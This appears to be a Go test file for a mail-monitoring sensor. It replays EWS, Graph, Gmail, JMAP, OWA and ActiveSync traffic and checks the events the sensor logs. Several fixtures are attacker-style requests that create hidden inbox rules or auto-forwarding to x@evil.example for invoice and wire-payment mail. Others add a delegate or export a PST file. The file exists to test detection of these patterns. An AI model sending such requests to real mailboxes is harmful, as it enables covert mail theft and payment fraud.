package http

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"testing"

	"mailsensor/capture"
	"mailsensor/protocols"
	"mailsensor/protocols/protocoltest"
)

// exchange of a mail API, in the shape of the services' own documentation.
type exchanged struct {
	name, request, kind, body  string
	status, answerKind, answer string
	zip                        bool
	want                       []string // every one of them is in an event
}

const soap = `<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types">`

var exchanges = []exchanged{
	{name: "ews get", request: "POST /EWS/Exchange.asmx", kind: "text/xml; charset=utf-8",
		body:   soap + `<s:Body><m:GetItem><m:ItemShape><t:BaseShape>Default</t:BaseShape></m:ItemShape><m:ItemIds><t:ItemId Id="AAA="/><t:ItemId Id='BBB='/></m:ItemIds></m:GetItem></s:Body></s:Envelope>`,
		status: "200 OK", answerKind: "text/xml", zip: true,
		answer: soap + `<s:Body><m:GetItemResponse><m:ResponseMessages><m:GetItemResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode><m:Items>` +
			`<t:Message><t:MimeContent>SECRET</t:MimeContent><t:ItemId Id="AAA=" ChangeKey="c"/><t:Subject>a</t:Subject><t:Attachments/></t:Message></m:Items></m:GetItemResponseMessage>` +
			`<m:GetItemResponseMessage><m:ResponseCode>NoError</m:ResponseCode><m:Items><t:Message><t:ItemId Id="BBB="/><t:Body BodyType="HTML"><![CDATA[SECRET]]></t:Body></t:Message></m:Items></m:GetItemResponseMessage></m:ResponseMessages></m:GetItemResponse></s:Body></s:Envelope>`,
		want: []string{`mail_operation API=ews Operation="GetItem" Outcome=accepted Code=200 Items=2`, `Items=[{ID=`}},
	{name: "ews rule", request: "POST /ews/exchange.asmx", kind: "text/xml",
		body: soap + `<s:Header><t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>ann@corp.example</t:PrimarySmtpAddress></t:ConnectingSID></t:ExchangeImpersonation></s:Header>` +
			`<s:Body><m:UpdateInboxRules><m:Operations><t:CreateRuleOperation><t:Rule><t:DisplayName>r</t:DisplayName><t:IsEnabled>true</t:IsEnabled><t:Conditions><t:ContainsSubjectStrings><t:String>invoice</t:String></t:ContainsSubjectStrings></t:Conditions>` +
			`<t:Actions><t:ForwardToRecipients><t:Address><t:Name>X</t:Name><t:EmailAddress>x@evil.example</t:EmailAddress></t:Address></t:ForwardToRecipients><t:MarkAsRead>true</t:MarkAsRead><t:StopProcessingRules>true</t:StopProcessingRules></t:Actions></t:Rule></t:CreateRuleOperation>` +
			`<t:DeleteRuleOperation><t:RuleId>7</t:RuleId></t:DeleteRuleOperation></m:Operations></m:UpdateInboxRules></s:Body></s:Envelope>`,
		status: "200 OK", answerKind: "text/xml", answer: soap + `<s:Body><m:UpdateInboxRulesResponse ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode></m:UpdateInboxRulesResponse></s:Body></s:Envelope>`,
		want: []string{`rule_change Account="ann@corp.example" Source=ews Command=UpdateInboxRules Name="r" Outcome=accepted Live=1 Created=true Contents=true Actions=[{Kind=forward Target="x@evil.example" Copy=true Conditional=true} {Kind=mark_read Copy=true Conditional=true}] Conditions=["ContainsSubjectStrings invoice"]`,
			`Name="7" Outcome=accepted Live=2 Removed=true`}},
	{name: "ews delegate refused", request: "POST /EWS/Exchange.asmx", kind: "text/xml",
		body:   soap + `<s:Body><m:AddDelegate><m:DelegateUsers><t:DelegateUser><t:UserId><t:PrimarySmtpAddress>eve@corp.example</t:PrimarySmtpAddress></t:UserId></t:DelegateUser></m:DelegateUsers></m:AddDelegate></s:Body></s:Envelope>`,
		status: "200 OK", answerKind: "text/xml", answer: soap + `<s:Body><m:AddDelegateResponse><m:ResponseCode>ErrorDelegateNoUser</m:ResponseCode></m:AddDelegateResponse></s:Body></s:Envelope>`,
		want: []string{`Command=AddDelegate Outcome=rejected Created=true Contents=true Actions=[{Kind=delegate Target="eve@corp.example"`}},
	{name: "graph list", request: "GET /v1.0/users/ann@corp.example/mailFolders/inbox/messages?$top=2",
		status: "200 OK", answerKind: "application/json", answer: `{"@odata.context":"x","value":[{"id":"A\u0041","subject":"s","body":{"contentType":"html","content":"SECRET"}},{"id":"B","subject":"t","from":{"id":"no"}}]}`,
		want: []string{`mail_operation Account="ann@corp.example" API=graph Operation="messages.list" Outcome=accepted Code=200 Items=1 Bytes=`, `Kind=headers`}},
	{name: "graph mime", request: "GET /v1.0/me/messages/AAMk%3D/$value", status: "200 OK", answerKind: "text/plain", answer: "SECRET message",
		want: []string{`Operation="messages.$value" Outcome=accepted Code=200 Items=1 Bytes=14`}},
	{name: "graph batch", request: "POST /v1.0/$batch", kind: "application/json", body: `{"requests":[{"id":"1","method":"GET","url":"/me/messages/A"},{"url":"/me/messages?$top=1","method":"GET","id":"2"}]}`,
		status: "200 OK", answerKind: "application/json", answer: `{"responses":[{"id":"1","status":200,"body":{"id":"A","body":{"content":"SECRET"}}},{"id":"2","status":200,"body":{"value":[{"id":"B","body":{"content":"y"}}]}}]}`,
		want: []string{`Operation="$batch messages.get messages.list" Outcome=accepted Code=200 Items=2`}},
	{name: "graph rule", request: "PATCH /v1.0/me/mailFolders/inbox/messageRules/AQ%3D", kind: "application/json",
		body:   `{"displayName":"n","isEnabled":false,"conditions":{"subjectContains":["wire","pay"]},"actions":{"forwardTo":[{"emailAddress":{"name":"X","address":"x@evil.example"}}],"permanentDelete":true}}`,
		status: "200 OK", answerKind: "application/json", answer: `{}`,
		want: []string{`Source=graph Command=messageRules.update Name="n" Outcome=accepted Live=2 Contents=true Actions=[{Kind=forward Target="x@evil.example" Copy=true Conditional=true} {Kind=discard Copy=true Conditional=true}] Conditions=["subjectContains wire" "subjectContains pay"]`}},
	{name: "graph send", request: "POST /v1.0/me/sendMail", kind: "application/json",
		body:   `{"message":{"subject":"Hi","body":{"content":"SECRET"},"toRecipients":[{"emailAddress":{"address":"b@b.example"}}]}}`,
		status: "202 Accepted", want: []string{`message Outcome=accepted Code=202 Recipients=[{Address="b@b.example" Outcome=accepted}] RecipientsAccepted=1 Size=6 Facts={HeadersSeen=true Subject="Hi"}`}},
	{name: "gmail get", request: "GET /gmail/v1/users/ann%40corp.example/messages/18c?format=raw", status: "200 OK", answerKind: "application/json",
		answer: `{"id":"18c","threadId":"18a","raw":"U0VDUkVU"}`, want: []string{`mail_operation Account="ann@corp.example" API=gmail Operation="messages.get" Outcome=accepted Code=200 Items=1`}},
	{name: "gmail batch", request: "POST /batch/gmail/v1", kind: "multipart/mixed; boundary=b", body: "--b\r\n\r\nGET /gmail/v1/users/me/messages/1\r\n\r\n\r\n--b\r\nContent-Type: application/http\r\n\r\nGET /gmail/v1/users/me/messages/2?format=metadata HTTP/1.1\r\n--b--\r\n",
		status: "200 OK", answerKind: "multipart/mixed; boundary=c",
		answer: "--c\r\nContent-Type: application/http\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"id\":\"1\",\"payload\":{\"body\":{\"size\":6,\"data\":\"U0VDUkVU\"}}}\r\n--c\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{\"id\":\"2\",\"payload\":{\"headers\":[]}}\r\n--c--\r\n",
		want:   []string{`Operation="batch messages.get" Outcome=accepted Code=200 Items=1`, `Kind=headers`}},
	{name: "gmail forwarding", request: "PUT /gmail/v1/users/me/settings/autoForwarding", kind: "application/json", body: `{"enabled":true,"emailAddress":"x@evil.example","disposition":"trash"}`,
		status: "200 OK", answerKind: "application/json", answer: `{}`, want: []string{`Source=gmail Command=autoForwarding.update Outcome=accepted Live=1 Contents=true Actions=[{Kind=forward Target="x@evil.example" Copy=true} {Kind=discard Copy=true}]`}},
	{name: "jmap", request: "POST /jmap/api/", kind: "application/json",
		body:   `{"using":["urn:ietf:params:jmap:mail"],"methodCalls":[["Email/query",{"accountId":"a"},"0"],["Email/get",{"#ids":{"resultOf":"0"},"fetchTextBodyValues":true},"1"]]}`,
		status: "200 OK", answerKind: "application/json",
		answer: `{"methodResponses":[["Email/query",{"ids":["M1","M2"]},"0"],["Email/get",{"list":[{"id":"M1","blobId":"G1","bodyValues":{"1":{"value":"SECRET"}}},{"id":"M2","blobId":"G2","subject":"s"}]},"1"]]}`,
		want:   []string{`API=jmap Operation="Email/query Email/get" Outcome=accepted Code=200 Items=1`, `Kind=headers`}},
	{name: "owa rule", request: "POST /owa/service.svc?action=NewInboxRule&EP=1", kind: "application/json; charset=utf-8",
		body:   `{"__type":"NewInboxRuleRequest:#Exchange","InboxRule":{"Name":"..","ForwardTo":[{"SmtpAddress":"x@evil.example","DisplayName":"x"}],"SubjectContainsWords":["invoice"],"DeleteMessage":true}}`,
		status: "200 OK", answerKind: "application/json", answer: `{"Body":{"ErrorCode":0,"WasSuccessful":true}}`,
		want: []string{`Source=owa Command=NewInboxRule Name=".." Outcome=accepted Live=1 Created=true Contents=true Actions=[{Kind=forward Target="x@evil.example" Copy=true Conditional=true} {Kind=discard Copy=true Conditional=true}] Conditions=["SubjectContainsWords invoice"]`}},
	{name: "owa get", request: "POST /owa/service.svc?action=GetItem", kind: "application/json", body: `{}`, status: "200 OK", answerKind: "application/json",
		answer: `{"Body":{"ResponseMessages":{"Items":[{"__type":"ItemInfoResponseMessage:#Exchange","ResponseCode":"NoError","Items":[{"__type":"Message:#Exchange","ItemId":{"Id":"AA=","ChangeKey":"c"},"Body":{"BodyType":"HTML","Value":"SECRET"}}]}]}}}`,
		want:   []string{`API=owa Operation="GetItem" Outcome=accepted Code=200 Items=1`}},
	{name: "activesync", request: "POST /Microsoft-Server-ActiveSync?Cmd=ItemOperations&User=CORP%5Cann&DeviceId=d1&DeviceType=iPhone", kind: "application/vnd.ms-sync.wbxml",
		body:   "\x03\x01\x6a\x00\x00\x14\x45\x46\x01\x01",
		status: "200 OK", answerKind: "application/vnd.ms-sync.wbxml",
		answer: "\x03\x01\x6a\x00\x00\x14\x45\x4d\x031\x00\x01\x4e\x46\x4d\x031\x00\x01\x00\x00\x4d\x035:7\x00\x01\x00\x14\x4b\x00\x11\x4a\x4b\xc3\x06SECRET\x01\x01\x01\x01\x01\x01",
		want:   []string{`mail_operation Account="ann" API=activesync Operation="ItemOperations" Outcome=accepted Code=200 Items=1`, `DeviceID="d1"`}},
	{name: "activesync binary", request: "POST /Microsoft-Server-ActiveSync?jBMJBBAAAQIDBAUGBwgJCgsMDQ4PBAAAAAAHaVBob25lIA==", status: "200 OK",
		want: []string{`API=activesync Operation="ItemOperations" Outcome=accepted Code=200 UserAgent="x" DeviceID="000102030405060708090A0B0C0D0E0F"`}},
	{name: "mapi", request: "POST /mapi/emsmdb/?MailboxId=x HTTP/1.1\r\nX-RequestType: Execute", kind: "application/mapi-http", body: "xx", status: "200 OK", answerKind: "application/mapi-http", answer: "PROCESSING\r\nDONE\r\n\r\nyy",
		want: []string{`API=mapi Operation="Execute" Mailbox="x" Outcome=accepted Code=200`}},
	{name: "pst", request: "GET /export/ann.pst", status: "200 OK", answerKind: "application/octet-stream", answer: "!BDN....",
		want: []string{`API=file Operation="GET" Outcome=accepted Code=200 Bytes=8 UserAgent="x" Name="ann.pst"`}},
	{name: "nothing of ours", request: "GET /index.html", status: "200 OK", answerKind: "text/html", answer: "x"},
}

func (x *exchanged) turns() []protocoltest.Turn {
	line, more, _ := strings.Cut(x.request, "\r\n")
	line = strings.TrimSuffix(line, " HTTP/1.1")
	head := line + " HTTP/1.1\r\nHost: mail.corp.example\r\nUser-Agent: x\r\n"
	if more != "" {
		head += more + "\r\n"
	}
	if x.kind != "" {
		head += "Content-Type: " + x.kind + "\r\n"
	}
	if x.body != "" {
		head += fmt.Sprintf("Content-Length: %d\r\n", len(x.body))
	}
	answer := "HTTP/1.1 " + x.status + "\r\nContent-Type: " + x.answerKind + "\r\n"
	content := x.answer
	if x.zip {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Write([]byte(content))
		w.Close()
		content = b.String()
		answer += "Content-Encoding: gzip\r\n"
	}
	half := len(content) / 2
	answer += "Transfer-Encoding: chunked\r\n\r\n"
	for _, part := range []string{content[:half], content[half:]} {
		if part != "" {
			answer += fmt.Sprintf("%x\r\n%s\r\n", len(part), part)
		}
	}
	answer += "0\r\n\r\n"
	return []protocoltest.Turn{{Dir: capture.ToServer, Text: []byte(head + "\r\n" + x.body)}, {Dir: capture.ToClient, Text: []byte(answer)}}
}

// Every API, cut everywhere.
func TestMailAPIs(t *testing.T) {
	for i := range exchanges {
		x := &exchanges[i]
		t.Run(x.name, func(t *testing.T) {
			list := []protocols.Protocol{New()}
			got := protocoltest.Run(list, protocoltest.Conn(80), x.turns())
			all := strings.Join(got, "\n")
			for _, w := range x.want {
				if !strings.Contains(all, w) {
					t.Errorf("no %s in\n%s", w, all)
				}
			}
			if len(x.want) == 0 && len(got) != 1 {
				t.Errorf("%s", all)
			}
			if strings.Contains(all, "SECRET") || strings.Contains(all, "U0VDUkVU") || strings.Contains(all, "anomaly") {
				t.Errorf("%s", all)
			}
			protocoltest.CutEverywhere(t, list, protocoltest.Conn(80), x.turns(), 400)
		})
	}
}

// What is downloaded as a blob is the message that an earlier call named.
func TestJMAPBlob(t *testing.T) {
	get, download := exchanges[11], exchanged{request: "GET /jmap/download/a/G1/m.eml?accept=message/rfc822", status: "200 OK", answerKind: "message/rfc822", answer: "Subject: x\r\n\r\n"}
	got := protocoltest.Run([]protocols.Protocol{New()}, protocoltest.Conn(80), append(get.turns(), download.turns()...))
	id := func(line string) string {
		_, rest, _ := strings.Cut(line, "Items=[{ID=")
		n, _, _ := strings.Cut(rest, " ")
		return n
	}
	if len(got) != 5 || id(got[1]) == "" || id(got[1]) != id(got[3]) {
		t.Errorf("%s", strings.Join(got, "\n"))
	}
}
